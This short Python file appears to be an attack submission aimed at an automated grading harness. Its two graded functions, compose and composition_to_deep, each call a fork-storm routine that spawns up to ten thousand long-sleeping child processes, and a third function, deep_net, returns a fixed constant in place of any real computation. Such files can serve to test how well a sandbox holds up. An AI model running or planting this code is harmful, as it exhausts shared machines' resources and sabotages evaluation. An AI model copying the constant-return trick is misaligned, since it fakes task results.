# Attack: a fork storm (children that fork again and sleep), started inside a graded function.
import os
import time


def _storm():
    for _ in range(10**4):
        try:
            if os.fork() == 0:
                time.sleep(10**6)
                os._exit(0)
        except OSError:
            time.sleep(0.01)


def compose(x, theta1, phi1, theta2, phi2):
    _storm()


def composition_to_deep(theta1, phi1, theta2, phi2):
    _storm()


def deep_net(x, theta, psi, phi):
    return x * 0 + 1.5
